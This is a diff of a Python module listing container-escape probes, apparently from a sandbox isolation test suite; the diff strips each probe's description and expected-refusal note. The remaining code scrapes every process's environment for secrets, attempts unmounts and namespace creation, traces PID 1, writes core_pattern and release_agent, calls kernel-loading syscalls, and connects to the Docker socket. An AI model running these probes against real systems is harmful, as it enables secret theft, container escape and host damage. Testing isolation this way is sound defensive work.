@@ -4,13 +4,9 @@ from __future__ import annotations
 
 from .attack import Attack
 
-REFUSED = "the kernel or the Engine's seccomp filter refuses"
-
 KERNEL = (
     Attack(
         "search-for-secrets",
-        "environments, descriptors, mounts and settings, for passwords and paths of the host",
-        "the environment is the definition's; a container sees only its own processes and mounts",
         """
         env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; tr '\\0' ' ' < $p/cmdline
         ls -l $p/fd $p/cwd $p/root; cat $p/status | head -3; done 2>/dev/null
@@ -21,8 +17,6 @@ KERNEL = (
     ),
     Attack(
         "mounts",
-        "mounting, unmounting and moving: the volumes writable, the control folder away, the host in",
-        REFUSED + ": a container lacks SYS_ADMIN",
         python="""
         for place in ("/.prefect-bt", "/b10/workspace", "/mnt/ckpts", "/proc/sys", "/sys", "/"):
             attempt(f"umount {place}", libc.umount2, place.encode(), 2)
@@ -39,8 +33,6 @@ KERNEL = (
     ),
     Attack(
         "namespaces",
-        "new namespaces, in which root may mount, and the namespaces of the first process",
-        REFUSED,
         python="""
         for name, flag in {"user": 1 << 28, "mount": 1 << 17, "pid": 1 << 29, "net": 1 << 30, "cgroup": 1 << 25}.items():
             attempt(f"unshare {name}", libc.unshare, flag)
@@ -53,8 +45,6 @@ KERNEL = (
     ),
     Attack(
         "leave-the-root",
-        "the ways out of a chroot: descriptors, working directories, file handles",
-        "the container's root is not a chroot: it has no parent; handles need DAC_READ_SEARCH",
         python="""
         def out():
             os.makedirs("/tmp/jail", exist_ok=True)
@@ -82,8 +72,6 @@ KERNEL = (
     ),
     Attack(
         "first-process",
-        "tracing and halting the first process and its listener, writing their memory",
-        "they belong to the container; a stop kills traced processes, or the container",
         python="""
         up()
         libc.ptrace(16, 1, 0, 0)
@@ -105,8 +93,6 @@ KERNEL = (
     ),
     Attack(
         "proc-and-sys",
-        "the host's settings below /proc and /sys: sysrq, core_pattern, uevent_helper, release_agent",
-        "they are read-only or hidden",
         python="""
         places = ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
             "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/file-max", "/proc/sys/kernel/hostname",
@@ -125,8 +111,6 @@ KERNEL = (
     ),
     Attack(
         "system-calls",
-        "modules, another kernel, programs in the kernel, the clock, a restart, the host's name, swap",
-        REFUSED,
         python="""
         calls = {"init_module": 175, "finit_module": 313, "delete_module": 176, "kexec_load": 246, "bpf": 321,
             "perf_event_open": 298, "userfaultfd": 323, "iopl": 172, "ioperm": 173, "settimeofday": 164,
@@ -146,8 +130,6 @@ KERNEL = (
     ),
     Attack(
         "engine-and-network",
-        "the Engine's socket, the host's services on its loopback, raw packets, another address",
-        "no socket is mounted, loopback is the container's own, and it lacks NET_RAW and NET_ADMIN",
         python="""
         for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/systemd/private", "/run/dbus/system_bus_socket"):
             attempt(place, socket.socket(socket.AF_UNIX).connect, place)
